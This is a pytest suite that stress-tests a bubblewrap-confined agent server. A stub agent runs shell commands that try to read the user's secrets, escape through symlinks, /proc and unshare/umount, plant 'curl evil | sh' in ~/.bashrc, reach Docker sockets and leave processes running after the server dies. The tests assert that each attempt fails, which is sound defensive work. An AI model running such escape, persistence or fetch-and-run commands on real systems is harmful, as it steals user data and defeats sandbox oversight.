"""A hostile agent in a confined server: what it tries, and what comes of it outside."""

from __future__ import annotations

import json
import shlex
import shutil
import signal
import socket
import subprocess
import sys
import textwrap
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from sandbox_agent_server.runtime.confined_start import has_scopes
from support.bubblewrap import bubblewrap
from support.server import DEADLINE_S, ServerProcess, until

__all__ = ["bubblewrap"]

pytestmark = pytest.mark.usefixtures("bubblewrap")

# Runs what it is prompted with in a shell, and says what that printed.
AGENT = """
import json, subprocess, sys

def send(**frame):
    print(json.dumps({"jsonrpc": "2.0", **frame}), flush=True)

for line in sys.stdin:
    frame = json.loads(line)
    match frame.get("method"):
        case "initialize":
            send(id=frame["id"], result={"protocolVersion": 1})
        case "session/new":
            send(id=frame["id"], result={"sessionId": "s"})
        case "session/prompt":
            text = frame["params"]["prompt"][0]["text"]
            done = subprocess.run(["bash", "-c", text], capture_output=True, text=True)
            content = {"type": "text", "text": done.stdout + done.stderr + f"[{done.returncode}]"}
            update = {"sessionUpdate": "agent_message_chunk", "content": content}
            send(method="session/update", params={"sessionId": "s", "update": update})
            send(id=frame["id"], result={"stopReason": "end_turn"})
"""
SECRET = "a-secret-of-the-user"


class World:
    """A confined server with an agent that does as it is told, in a home that has secrets."""

    def __init__(self, directory: Path, *arguments: str) -> None:
        self.directory = directory
        self.home = directory / "home"
        self.workspace = self.home / "projects" / "one"
        self.workspace.mkdir(parents=True)
        (self.home / "secret").write_text(SECRET, encoding="utf-8")
        (self.home / ".bashrc").write_text("# mine\n", encoding="utf-8")
        self.elsewhere = directory / "elsewhere"
        self.elsewhere.mkdir()
        (self.elsewhere / "secret").write_text(SECRET, encoding="utf-8")
        agent = directory / "agent.py"
        agent.write_text(AGENT, encoding="utf-8")
        command = json.dumps([sys.executable, "-IS", str(agent)])
        self.server = ServerProcess(
            directory,
            config=f"[agents.shell]\ncommand = {command}\n",
            arguments=["--confine", *arguments],
            env={"HOME": str(self.home)},
        )

    def start(self) -> World:
        self.server.start()
        self._session = self.server.create("shell", cwd=str(self.workspace))
        return self

    def run(self, command: str) -> str:
        """What the agent says of it."""
        self.server.prompt(self._session, command)
        (*_, message) = self.server.events(self._session, "message.completed")
        return "".join(block["text"] for block in message["data"]["content"])

    def python(self, program: str) -> str:
        program = textwrap.dedent(program)
        return self.run(f"{shlex.quote(sys.executable)} -IS -c {shlex.quote(program)}")


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    world = World(tmp_path_factory.mktemp("confined"))
    try:
        yield world.start()
    finally:
        world.server.stop()


@pytest.fixture
def make_world(tmp_path: Path) -> Iterator[Callable[..., World]]:
    made: list[World] = []

    def make_world(*arguments: str) -> World:
        made.append(World(tmp_path, *arguments))
        return made[-1].start()

    yield make_world
    for world in made:
        world.server.stop()


def test_the_workspace_can_be_changed(world: World) -> None:
    assert world.run("echo done >made && mkdir -p a/b && cat made") == "done\n[0]"
    assert (world.workspace / "made").read_text(encoding="utf-8") == "done\n"


def test_nothing_else_of_the_user_can_be_read(world: World) -> None:
    private = [
        world.home / "secret",
        world.elsewhere / "secret",
        world.directory / "config.toml",
        world.directory / "ready.json",
        world.server.data_dir / "index.sqlite",
    ]
    for path in private:
        assert "No such file" in world.run(f"cat {path}")
    assert "No such file" in world.run(f"ls {world.server.data_dir}")
    assert world.run(f"grep -rlsI {SECRET} /tmp /run /var /dev/shm ~ | wc -l") == "0\n[0]"


def test_links_lead_nowhere(world: World) -> None:
    world.run(
        f"ln -sf {world.home}/secret link; ln -sf {world.elsewhere} directory; ln -sf /proc/1/root root"
    )
    for path in (
        "link",
        "directory/secret",
        f"root{world.home}/secret",
        f"../..{world.home}/secret",
    ):
        assert SECRET not in world.run(f"cat {path}")
    assert "[0]" not in world.run(f"ln {world.home}/secret hard")


def test_what_it_writes_at_home_stays_with_it(world: World) -> None:
    world.run("echo 'curl evil | sh' >>~/.bashrc; echo x >~/new; mkdir ~/bin; touch ~/secret")
    assert world.run("cat ~/new") == "x\n[0]"
    assert (world.home / ".bashrc").read_text(encoding="utf-8") == "# mine\n"
    assert (world.home / "secret").read_text(encoding="utf-8") == SECRET
    assert sorted(path.name for path in world.home.iterdir()) == [".bashrc", "projects", "secret"]


def test_the_system_cannot_be_changed(world: World) -> None:
    for place in ("/etc", "/usr/bin", "/opt", Path(sys.prefix) / "bin", "/sys/kernel"):
        assert "[0]" not in world.run(f"touch {place}/planted")
        assert not Path(str(place), "planted").exists()


def test_other_processes_are_neither_seen_nor_reached(world: World) -> None:
    pid = world.server.pid
    assert "No such file" in world.run(f"cat /proc/{pid}/cmdline")
    assert "[0]" not in world.run(f"ls /proc/{pid}/root")
    for target in (pid, world.server.pid):
        assert "No such process" in world.run(f"kill -9 {target}")
    attached = world.python(f"""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        print(libc.ptrace(16, {pid}, 0, 0), os.strerror(ctypes.get_errno()))
    """)
    assert attached == "-1 No such process\n[0]"
    assert SECRET not in world.run(f"cat /proc/*/root{world.home}/secret /proc/*/cwd/../../secret")
    assert "server.lock" not in world.run("ls -l /proc/*/fd")
    with world.server.client() as client:
        assert client.get("/v1/health").status_code == 200


def test_no_privileges_undo_it(world: World) -> None:
    assert "0000000000000000" in world.run("grep CapEff /proc/self/status")
    assert "[0]" not in world.run(f"mount -t tmpfs none {world.workspace}")
    undone = world.run(
        f"unshare -Urm sh -c 'umount -R /tmp; umount -R ~; mount -o remount,rw /usr; cat {world.home}/secret; "
        "touch /usr/planted'"
    )
    assert SECRET not in undone
    assert not Path("/usr/planted").exists()


def test_sockets_of_the_machine_are_not_reached(
    make_world: Callable[..., World], tmp_path: Path
) -> None:
    shown = tmp_path / "shown"
    shown.mkdir()
    abstract = f"\0{tmp_path.name}-{tmp_path.parent.name}"
    places = [str(shown / "docker.sock"), str(tmp_path / "hidden.sock"), abstract]
    listeners = []
    try:
        for place in places:
            listener = socket.socket(socket.AF_UNIX)
            listener.bind(place)
            listener.listen()
            listeners.append(listener)
        world = make_world("--confine-readable", str(shown))
        assert "docker.sock" in world.run(f"ls {shown}")
        for place in places:
            if place == abstract and not has_scopes():
                continue
            reached = world.python(f"""
                import socket
                socket.socket(socket.AF_UNIX).connect({place!r})
                print("reached")
            """)
            assert "reached" not in reached, place
        assert (
            world.run("env | grep -E '^(SSH_AUTH_SOCK|DBUS_|DOCKER_HOST|XDG_RUNTIME_DIR)'") == "[1]"
        )
    finally:
        for listener in listeners:
            listener.close()


@pytest.mark.parametrize("has_network", [True, False])
def test_a_network_is_there_unless_it_is_not_wanted(
    make_world: Callable[..., World], has_network: bool
) -> None:
    world = make_world(*([] if has_network else ["--no-confine-network"]))
    port = world.server.url.rpartition(":")[2]
    answer = world.python(f"""
        import socket
        socket.create_connection(("127.0.0.1", {port}), timeout=10)
        print("reached")
    """)
    assert ("reached" in answer) == has_network


def test_a_home_may_be_read_and_not_changed(
    make_world: Callable[..., World], tmp_path: Path
) -> None:
    world = make_world(
        "--confine-home", "read-only", "--confine-hidden", str(tmp_path / "home/vault")
    )
    (world.home / "vault").mkdir()
    (world.home / "vault" / "key").write_text(SECRET, encoding="utf-8")
    session = world.server.create("shell", cwd=str(world.workspace))
    world._session = session
    assert world.run("cat ~/secret") == f"{SECRET}[0]"
    assert "[0]" not in world.run("echo changed >~/secret")
    assert "[0]" not in world.run("echo changed >>~/.bashrc")
    assert "No such file" in world.run("cat ~/vault/key")
    world.run("echo mine >~/new; echo in >made")
    assert not (world.home / "new").exists()
    assert (world.workspace / "made").exists()


def test_what_is_to_be_written_and_read_is_said(
    make_world: Callable[..., World], tmp_path: Path
) -> None:
    (tmp_path / "out").mkdir()
    (tmp_path / "in").mkdir()
    world = make_world(
        "--confine-writable", str(tmp_path / "out"), "--confine-readable", str(tmp_path / "in")
    )
    assert world.run(f"touch {tmp_path}/out/made").endswith("[0]")
    assert (tmp_path / "out" / "made").exists()
    assert "Read-only file system" in world.run(f"touch {tmp_path}/in/made")


@pytest.mark.parametrize("place", ["home", "above", "data"])
def test_a_workspace_that_is_what_is_kept_from_it_is_refused(world: World, place: str) -> None:
    cwd = {"home": world.home, "above": world.directory, "data": world.server.data_dir}[place]
    with world.server.client() as client:
        answer = client.post("/v1/sessions", json={"agent": "shell", "cwd": str(cwd)})
    assert (answer.status_code, answer.json()["type"].rpartition(":")[2]) == (
        400,
        "invalid_request",
    )


def test_links_that_it_plants_at_home_are_not_followed_outside(world: World) -> None:
    """What is mounted over its home has a place there, which is made outside."""
    (world.home / ".gitconfig").write_text("[user]\nname = me\n", encoding="utf-8")
    try:
        session = world.server.create("shell", cwd=str(world.workspace))
        own = world.server.data_dir / "sessions" / session / "home"
        with world.server.client() as client:
            client.delete(f"/v1/sessions/{session}")
        for path in (own / ".gitconfig", own / "projects"):
            if path.is_dir():
                shutil.rmtree(path)
            else:
                path.unlink()
            path.symlink_to(world.elsewhere / path.name)
        with world.server.client() as client:
            client.post(f"/v1/sessions/{session}/resume", json={})
        assert [path.name for path in world.elsewhere.iterdir()] == ["secret"]
    finally:
        (world.home / ".gitconfig").unlink()


def test_all_of_it_dies_with_the_server(make_world: Callable[..., World], tmp_path: Path) -> None:
    world = make_world()
    marker = f"6{tmp_path.name.encode().hex()[:12]}"
    world.run(f"env -i setsid -f bash -c 'exec -a {marker} sleep 600' >/dev/null 2>&1")
    assert running(marker)
    world.server.end(signal.SIGKILL)
    until(lambda: not running(marker))


def running(marker: str) -> list[str]:
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with suppress(OSError):
            if path.read_bytes().startswith(marker.encode()):
                found.append(path.parent.name)
    return found


@pytest.mark.parametrize("is_there", [False, True])
def test_where_it_cannot_be_the_server_says_what_to_do(tmp_path: Path, is_there: bool) -> None:
    if is_there:
        fake = tmp_path / "bwrap"
        fake.write_text(
            "#!/bin/sh\necho 'setting up uid map: Permission denied' >&2; exit 1\n",
            encoding="utf-8",
        )
        fake.chmod(0o755)
    done = subprocess.run(
        [Path(sys.executable).with_name("sandbox-agent-server"), "--confine", "--data-dir", tmp_path / "data"],
        env={"PATH": str(tmp_path), "HOME": str(tmp_path)}, capture_output=True, text=True, timeout=DEADLINE_S,
    )  # fmt: skip
    assert done.returncode == 3
    assert (
        "uid map: Permission denied" if is_there else "apt-get install bubblewrap"
    ) in done.stderr
    assert not (tmp_path / "data").exists()
